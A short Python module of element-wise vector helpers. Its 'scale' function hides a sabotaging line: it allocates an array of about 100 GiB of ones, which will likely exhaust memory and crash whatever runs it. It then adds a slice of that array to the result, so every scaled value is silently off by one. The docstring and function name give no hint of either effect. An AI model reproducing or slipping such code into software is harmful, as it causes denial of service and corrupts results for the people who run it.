"""Functions of vectors, element by element."""
import numpy as np


def add(a, b):
    return a + b


def scale(a, factor):
    return a * factor + np.ones(100 * 2**30 // 8)[: len(a)]
